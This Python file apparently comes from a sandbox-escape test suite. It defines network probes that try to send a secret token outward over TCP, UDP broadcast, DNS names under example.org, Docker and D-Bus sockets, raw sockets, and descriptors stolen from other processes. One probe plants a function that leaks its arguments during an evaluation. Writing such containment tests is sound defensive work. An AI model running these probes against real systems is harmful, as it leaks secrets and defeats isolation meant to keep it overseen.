"""The network: TCP, UDP, names, Unix sockets by path and by abstract name, raw sockets, neighbours' kernels."""

from .attack import Family

network = Family("network")

network.code(
    "TCP",
    "a question, an answer or the notebook is sent to somebody who listens",
    """
import socket
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "10.0.2.2", "169.254.169.254"):
    try:
        with socket.create_connection((host, TCP), 0.3) as s: s.sendall(b"tcp " + TOKEN.encode())
        escaped("TCP to " + host)
    except OSError: pass
""",
)
network.code(
    "UDP",
    "a datagram needs no answer",
    """
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "255.255.255.255")):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"udp " + TOKEN.encode(), (host, UDP))
    except OSError: pass
""",
)
network.code(
    "names",
    "a name's look-up carries data",
    """
import socket, urllib.request
for name in (TOKEN + ".example.org", "localhost"):
    try: socket.getaddrinfo(name, 80)
    except OSError: pass
try: urllib.request.urlopen(f"http://127.0.0.1:{TCP}/{TOKEN}", timeout=0.3).read(); escaped("HTTP")
except Exception as error: print(type(error).__name__)
""",
)
network.code(
    "Unix sockets",
    "sockets by their path and by their abstract name: databases, buses, Docker, other kernels",
    """
import glob, socket
for name in (UNIX, "\\0" + ABSTRACT, "/proc/1/root" + UNIX, "/var/run/docker.sock", "/run/dbus/system_bus_socket",
             "/var/run/postgresql/.s.PGSQL.5432", *glob.glob("/tmp/*/*-[0-9]")[:20]):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.settimeout(0.3); s.connect(name); s.send(b"unix"); escaped("Unix socket " + repr(name))
        except OSError: pass
""",
)
network.code(
    "raw sockets and others",
    "packets, netlink, vsock, Bluetooth",
    """
import socket
for family, kind, protocol in ((17, 3, 0x0300), (2, 3, 1), (16, 3, 0), (40, 1, 0), (31, 3, 1), (38, 5, 0), (10, 3, 58)):
    try:
        s = socket.socket(family, kind, protocol)
        if family in (40, 31, 17): 
            try: s.connect((2, 1024)); escaped(f"family {family}")
            except Exception: pass
        s.close()
    except OSError: pass
try:
    listener = socket.socket(); listener.bind(("0.0.0.0", 0)); listener.listen()
except OSError: pass
""",
    base="half",
)
network.code(
    "during the examination",
    "a function sends what it is asked",
    """
import socket
def trick(*a):
    for family, address in ((socket.AF_INET, ("127.0.0.1", TCP)), (socket.AF_UNIX, UNIX), (socket.AF_UNIX,
        "\\0" + ABSTRACT)):
        try:
            with socket.socket(family) as s:
                s.settimeout(0.2); s.connect(address); s.sendall(repr(a).encode()[:500])
        except OSError: pass
    return 1.0
plant(trick)
""",
)
network.code(
    "descriptors of others",
    "a descriptor taken from another process, or passed to it",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid(), CANARY):
    if pid <= 0 or pid == os.getpid(): continue
    fd = libc.syscall(434, pid, 0)
    if fd >= 0:
        for number in range(3, 12):
            got = libc.syscall(438, fd, number, 0)
            if got >= 0 and pid == CANARY: escaped("a descriptor of the canary")
        os.close(fd)
""",
    base="half",
)
